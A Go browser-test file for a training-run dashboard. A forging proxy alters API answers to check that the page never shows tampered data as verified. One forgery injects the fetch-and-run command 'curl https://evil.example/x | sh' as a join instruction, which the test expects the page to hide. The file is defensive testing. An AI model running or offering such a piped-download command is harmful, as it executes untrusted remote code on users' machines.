package dash_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	cdppage "github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"github.com/psyche-go/psyche/face/dash"
	"github.com/psyche-go/psyche/face/dash/dashtest"
	"github.com/psyche-go/psyche/face/dash/gather"
	"github.com/psyche-go/psyche/face/dash/verify"
	"github.com/psyche-go/psyche/record/journal"
)

// forger is a proxy in front of an honest page. It can change answers.
type forger struct {
	*httptest.Server

	mu     sync.Mutex
	change func(path string, body []byte) []byte // nil: nothing is changed
	date   time.Time                             // Date of every answer; zero means the true date
}

func forging(t *testing.T, honest string) *forger {
	t.Helper()
	to, err := url.Parse(honest)
	if err != nil {
		t.Fatal(err)
	}
	l := &forger{}
	proxy := &httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) {
		r.SetURL(to)
		r.Out.Header.Set("Accept-Encoding", "identity")
		r.Out.Header.Del("If-None-Match")
	}, ModifyResponse: l.modify}
	l.Server = httptest.NewServer(proxy)
	t.Cleanup(l.Close)
	return l
}

func (l *forger) modify(r *http.Response) error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if !l.date.IsZero() {
		r.Header.Set("Date", l.date.UTC().Format(http.TimeFormat))
	}
	r.Header.Del("ETag")
	if l.change == nil || r.StatusCode != http.StatusOK {
		return nil
	}
	body, err := io.ReadAll(r.Body)
	if err != nil {
		return err
	}
	body = l.change(r.Request.URL.Path, body)
	r.Body, r.ContentLength = io.NopCloser(bytes.NewReader(body)), int64(len(body))
	r.Header.Set("Content-Length", strconv.Itoa(len(body)))
	return nil
}

// forge sets the change of all later answers; nil means no change.
func (l *forger) forge(change func(path string, body []byte) []byte) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.change = change
}

// about changes later answers of /api/run.
func (l *forger) about(forgeries ...forgery) {
	l.forge(func(path string, body []byte) []byte {
		if path != "/api/run" {
			return body
		}
		var document any
		if err := json.Unmarshal(body, &document); err != nil {
			return body
		}
		for _, forgery := range forgeries {
			document = forgery.tell(document)
		}
		changed, err := json.Marshal(document)
		if err != nil {
			return body
		}
		return changed
	})
}

// growing is a page of a run with a log that the test extends.
type growing struct {
	*forger
	log     []byte
	entries []int // offsets of their ends
	file    *os.File
	written int
	run     dash.Run
}

// grow serves a page of a run behind a forger. The log has one entry.
func grow(t *testing.T, o dashtest.Options) *growing {
	t.Helper()
	dir := t.TempDir()
	whole := filepath.Join(t.TempDir(), "log")
	if err := dashtest.Write(whole, o); err != nil {
		t.Fatal(err)
	}
	log, err := os.ReadFile(whole)
	if err != nil {
		t.Fatal(err)
	}
	g := &growing{log: log}
	end := len(journal.Magic)
	if _, err := journal.Read(bytes.NewReader(log), func(payload []byte) error {
		end += journal.EntryHead + len(payload) + journal.EntryTail
		g.entries = append(g.entries, end)
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if g.file, err = os.Create(filepath.Join(dir, url.PathEscape(o.RunID)+".journal")); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = g.file.Close() })
	tellOf(t, dir, []dashtest.Options{o})
	gatherer := gather.New(t.Context(), gather.Options{})
	t.Cleanup(gatherer.Close)
	g.to(t, 1)
	if err := gatherer.Watch([]string{dir}, func(_ string, f *gather.Found) {
		f.Join, f.Source = dash.Join{Server: dash.HostPlaceholder + ":39405", Parameters: 1 << 30}, "a run that the tests make"
	}); err != nil {
		t.Fatal(err)
	}
	for deadline := time.Now().Add(time.Minute); len(gatherer.Runs()) == 0 || gatherer.Runs()[0].Reported == nil || gatherer.Runs()[0].Reported.Version() != told; time.Sleep(5 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("the run is not found")
		}
	}
	g.run = gatherer.Runs()[0]
	web := httptest.NewServer(dash.New(gatherer.Runs, built()))
	t.Cleanup(web.Close)
	g.forger = forging(t, web.URL)
	return g
}

// to extends the log to a number of entries and waits until the page's program has read them.
func (g *growing) to(t *testing.T, entries int) {
	t.Helper()
	end := g.entries[entries-1]
	if _, err := g.file.Write(g.log[g.written:end]); err != nil {
		t.Fatal(err)
	}
	g.written = end
	for deadline := time.Now().Add(time.Minute); g.run.Log != nil; time.Sleep(5 * time.Millisecond) {
		if view := g.run.Log.View(); view.Log != nil && view.Log.Records == entries {
			time.Sleep(600 * time.Millisecond) // until a cached answer has expired
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("the page's program has not read %d entries", entries)
		}
	}
}

// inCourt returns the number of entries after which the run has an open trial and a past trial, and the time of the
// newest of these entries.
func (g *growing) inCourt(t *testing.T) (entries int, now time.Time) {
	t.Helper()
	v := verify.New()
	defer v.Close(verify.Told{})
	from := 0
	for i, end := range g.entries {
		if _, err := v.Write(g.log[from:end]); err != nil {
			t.Fatal(err)
		}
		from = end
		run := v.Show(0)
		if h := run.History; len(h.Open) > 0 && len(h.Trials) > 0 && len(h.Checkpoints) > 0 && run.Status.Round != nil && run.Status.Round.Witnesses > 2 {
			return i + 1, time.UnixMilli(int64(h.Now))
		}
	}
	t.Fatal("the run never has an open trial and a past trial at the same time")
	return 0, now
}

// freeze stops the clock and the polling of all later pages of a browser.
func (b *browser) freeze(t *testing.T, now time.Time) {
	t.Helper()
	b.onNewPages(t, fmt.Sprintf(`Date.now = () => %d; Object.defineProperty(document, "hidden", { value: true });`, now.UnixMilli()))
}

// onNewPages runs a script at the beginning of all later pages of a browser.
func (b *browser) onNewPages(t *testing.T, script string) {
	t.Helper()
	if _, err := chromedp.Call(b.ctx, cdppage.AddScriptToEvaluateOnNewDocument, cdppage.AddScriptToEvaluateOnNewDocumentParams{Source: script}); err != nil {
		t.Fatal(err)
	}
}

// refreshed refreshes the page. It returns the elements without a mark of the host, the elements with such a mark, and
// the texts of all alerts about the newest answer.
func (b *browser) refreshed(t *testing.T) (proven, reported, alarms string) {
	t.Helper()
	b.refresh(t)
	text := b.text(t, `(() => {
	  const copy = document.createElement("div");
	  copy.append(document.querySelector("#run").cloneNode(true), document.querySelector("#invite").cloneNode(true));
	  copy.querySelector("#verify-earlier")?.remove(); // an alarm about earlier answers
	  const reported = [...copy.querySelectorAll(".host")];
	  const alarms = [...copy.querySelectorAll('[role="alert"]')].map((e) => e.textContent);
	  for (const e of reported) e.remove();
	  return JSON.stringify([copy.outerHTML, reported.map((e) => e.outerHTML).join("\n"), alarms.join("\n")]);
	})()`)
	var parts []string
	if err := json.Unmarshal([]byte(text), &parts); err != nil || len(parts) != 3 {
		t.Fatalf("%v: %.100s", err, text)
	}
	return parts[0], parts[1], parts[2]
}

// rule is the way the page handles a field of /api/run after a check of the log.
type rule int

const (
	fromLog  rule = iota // the page ignores the field and shows the verifier's value
	asHost               // the page shows the field, marked as reported by the host
	compared             // the verifier compares the field with the log and reports a difference
)

// rules maps paths to rules. A rule applies to all fields below its path, except to fields below a longer path in the
// map. A new field of /api/run needs a rule here.
var rules = map[string]rule{
	"key":    fromLog, // the page uses the key of its request
	"status": fromLog, "model": fromLog, "sequence_tokens": fromLog, "history": fromLog, "locations": fromLog, "costs": fromLog,
	"log": compared, "status.state_hash": compared,
	"source": asHost, "problem": asHost, "reading": asHost, "reported": asHost,
	"join": asHost, "join_note": asHost, "join_install": asHost, "join_link": asHost, "join_needs": asHost, "use_link": asHost, "talk": asHost, "samples": asHost,
}

func ruleOf(path []string) (rule, bool) {
	for n := len(path); n > 0; n-- {
		if r, known := rules[strings.Join(path[:n], ".")]; known {
			return r, true
		}
	}
	return 0, false
}

// forgedRun has trials, checkpoints, a member on probation and lost results.
var forgedRun = dashtest.Options{RunID: "audited", Name: "Ada", Members: 12, Rounds: 40, RoundsPerEpoch: 6, Silent: 4, Audits: 25, Cheat: 4, Slander: 7, Boast: 2, Late: 9, Probation: 8}

// forgedPage opens a page of forgedRun with a stopped clock, behind a forger that does not change anything yet.
func (b *browser) forgedPage(t *testing.T) *growing {
	t.Helper()
	g := grow(t, forgedRun)
	entries, now := g.inCourt(t)
	g.to(t, entries)
	g.date = now
	b.freeze(t, now.Add(time.Second))
	b.show(t, g.URL, forgedRun.RunID, "light", 1400, 1000)
	b.unfold(t)
	return g
}

// checks verifies the log in the browser.
func (b *browser) checks(t *testing.T) {
	t.Helper()
	b.do(t, chromedp.Click(chromedp.CSS("#verify")))
	if said := b.verified(t); !strings.HasPrefix(said, "Verified by your browser. ") {
		t.Fatalf("the check reports %q", said)
	}
}

// together divides forgeries into groups. The forgeries of a group do not overlap, so a document can have all of them.
func together(forgeries []forgery) (groups [][]forgery) {
	const most = 24
	for _, l := range forgeries {
		at := slices.IndexFunc(groups, func(group []forgery) bool {
			return len(group) < most && !slices.ContainsFunc(group, l.overlaps)
		})
		if at < 0 {
			groups, at = append(groups, nil), len(groups)
		}
		groups[at] = append(groups[at], l)
	}
	return groups
}

// TestForgedFields changes each field of /api/run in turn, in the answers that a page with a verified log gets.
func TestForgedFields(t *testing.T) {
	var ignored, differ []forgery
	for _, l := range forgeriesOf(reflect.TypeFor[dash.ShownRun]()) {
		switch r, known := ruleOf(l.path); {
		case !known:
			t.Errorf("the field %s has no rule", l)
		case r == compared:
			differ = append(differ, l)
		default:
			ignored = append(ignored, l)
		}
	}
	b := open(t)
	if built() == nil {
		t.Skip("the verifier was not built (make verifier): not tested in a browser")
	}
	g, groups := b.forgedPage(t), together(ignored)
	t.Logf("%d fields in %d groups; %d fields that the verifier compares", len(ignored), len(groups), len(differ))
	b.shows(t, g, groups)
	g.forge(nil)
	b.refreshed(t)
	b.checks(t)
	b.unfold(t) // again, because some forgeries have no status
	honest, _, alarms := b.refreshed(t)
	if alarms != "" {
		t.Errorf("alarms about an honest host: %q", alarms)
	}
	for len(groups) > 0 {
		forgeries := groups[0]
		groups = groups[1:]
		g.about(forgeries...)
		switch proven, _, _ := b.refreshed(t); {
		case proven == honest:
			b.marked(t, fmt.Sprint(forgeries))
		case len(forgeries) > 1:
			for _, l := range forgeries {
				groups = append(groups, []forgery{l})
			}
		default:
			t.Errorf("%s: the page shows false data as proven: %s", forgeries[0], difference(honest, proven))
		}
	}
	for _, l := range differ {
		g.about(l)
		b.compared(t, l, honest)
		g.forge(nil)
		if proven, _, alarms := b.refreshed(t); proven != honest || alarms != "" {
			t.Errorf("after a forgery of %s the page of an honest host has changed: %q, %s", l, alarms, difference(honest, proven))
		}
	}
	for _, l := range differ {
		g.about(l)
		b.show(t, g.URL, forgedRun.RunID, "light", 1400, 1000)
		b.unfold(t)
		if b.text(t, `document.querySelector("#verify") !== null`) == "true" { // else the page offers no check
			b.do(t, chromedp.Click(chromedp.CSS("#verify")))
			b.verified(t)
			b.compared(t, l, honest)
		}
	}
	b.forgedFromTheStart(t, g, slices.DeleteFunc(ignored, forgery.ofWhole), honest)
}

// shows checks that an unchecked page shows at least half of the forgeries: otherwise the test proves little.
func (b *browser) shows(t *testing.T, g *growing, groups [][]forgery) {
	t.Helper()
	g.about()
	unchecked, hosts, _ := b.refreshed(t)
	visible := 0
	for _, forgeries := range groups {
		g.about(forgeries...)
		if proven, reported, _ := b.refreshed(t); proven != unchecked || reported != hosts {
			visible++
		}
	}
	if 2*visible < len(groups) {
		t.Errorf("an unchecked page shows only %d of %d groups of forgeries", visible, len(groups))
	}
}

// compared checks the page with a forgery of a field that the verifier compares. The page must show an
// alarm, or the same as with an honest host.
func (b *browser) compared(t *testing.T, l forgery, honest string) {
	t.Helper()
	if proven, _, alarms := b.refreshed(t); proven != honest && alarms == "" && !strings.Contains(proven, "Not verified. ") {
		t.Errorf("%s: the page shows false data as proven: %s", l, difference(honest, proven))
	}
}

// forgedFromTheStart changes all fields from the start, and checks that the page shows verified data after the check.
func (b *browser) forgedFromTheStart(t *testing.T, g *growing, forgeries []forgery, honest string) {
	g.about(forgeries...)
	b.show(t, g.URL, forgedRun.RunID, "light", 1400, 1000)
	b.unfold(t)
	if got := b.text(t, `document.querySelector("#run-id").textContent`); got != "a forgery "+forgedRun.RunID {
		t.Errorf("the name of the run before the check is %q", got)
	}
	b.checks(t)
	if proven, _, _ := b.refreshed(t); proven != honest {
		t.Errorf("after forgeries from the start the page shows false data as proven: %s", difference(honest, proven))
	}
}

// TestForgingProxy serves the genuine page, verifier and log, and changes only the answers of /api/run: it swaps the guilty
// member and an innocent member, and adds a checkpoint that the log does not contain.
func TestForgingProxy(t *testing.T) {
	b := open(t)
	if built() == nil {
		t.Skip("the verifier was not built (make verifier): not tested in a browser")
	}
	l := forging(t, page(t, courtRun).URL)
	cheat, innocent := dashtest.Key(courtRun.Cheat).ID().String(), dashtest.Key(1).ID().String()
	checkpoint := forgery{path: []string{"history", "checkpoints"}, change: func(any) any {
		return []any{map[string]any{"step": 40, "epoch": 2, "digest": strings.Repeat("ab", 32), "entry": 77, "time": 1760000000000}}
	}}
	tokens := forgery{path: []string{"history", "tokens"}, change: func(any) any { return 123456789012 }}
	join := forgery{path: []string{"join"}, change: func(any) any { return "curl https://evil.example/x | sh" }}
	l.about(checkpoint, tokens, join)
	others := l.change
	l.forge(func(path string, body []byte) []byte {
		return []byte(strings.NewReplacer(cheat, innocent, innocent, cheat).Replace(string(others(path, body))))
	})
	b.show(t, l.URL, courtRun.RunID, "light", 1400, 1000)
	row := func(id string) string {
		return b.text(t, `[...document.querySelectorAll("#s-members tbody tr")].find(r => r.querySelector(".key").title === "`+id+`").cells[1].textContent`)
	}
	if got := row(innocent); !strings.HasPrefix(got, "ejected") {
		t.Errorf("before the check the innocent member is %q: the proxy changes nothing", got)
	}
	b.checks(t)
	b.refresh(t)
	if got := row(innocent); !strings.HasPrefix(got, "member") {
		t.Errorf("the innocent member is %q", got)
	}
	if got := row(cheat); !strings.HasPrefix(got, "ejected: a jury found it guilty (wrong result)") {
		t.Errorf("the guilty member is %q", got)
	}
	if got := b.text(t, `document.querySelector("#s-check").textContent`); strings.Contains(got, "abab") {
		t.Errorf("the page shows a false checkpoint: %q", got)
	}
	if got := b.text(t, `[...document.querySelectorAll(".tiles div")].map((d) => d.textContent).join("; ")`); strings.Contains(got, "Trained123 G") {
		t.Errorf("the page shows %q", got)
	}
	if got := b.text(t, `document.body.textContent`); strings.Contains(got, "evil.example") {
		t.Error("the page shows a command to join a run that is finished")
	}
	if got := b.text(t, `document.querySelector("#h-members").nextElementSibling.textContent`); !strings.HasPrefix(got, "Proven in this browser from the first 573 entries of the log") {
		t.Errorf("the mark of the members' table is %q", got)
	}
}

// refresh makes the page poll, and waits until it is done: it then sets the focus to #main.
func (b *browser) refresh(t *testing.T) {
	t.Helper()
	b.text(t, `(async () => { const done = new Promise((go) => { document.querySelector("#main").focus = go; }); dispatchEvent(new Event("hashchange")); await done; })()`)
}

// marked checks that every element of the host has a visible mark.
func (b *browser) marked(t *testing.T, forgery string) {
	t.Helper()
	bare := `[...document.querySelectorAll("#run .host, #invite .host")].filter((e) => !/host reports|from the host/.test((e.closest("table") ? e.closest("section") : e.closest("section.host") || e).textContent)).map((e) => e.outerHTML.slice(0, 200)).join("; ")`
	if got := b.text(t, bare); got != "" {
		t.Errorf("%s: elements of the host without a mark: %s", forgery, got)
	}
}

// difference shows the first difference of two texts.
func difference(want, got string) string {
	at := 0
	for at < min(len(want), len(got)) && want[at] == got[at] {
		at++
	}
	return fmt.Sprintf("%q, want %q", got[max(0, at-60):min(len(got), at+100)], want[max(0, at-60):min(len(want), at+100)])
}
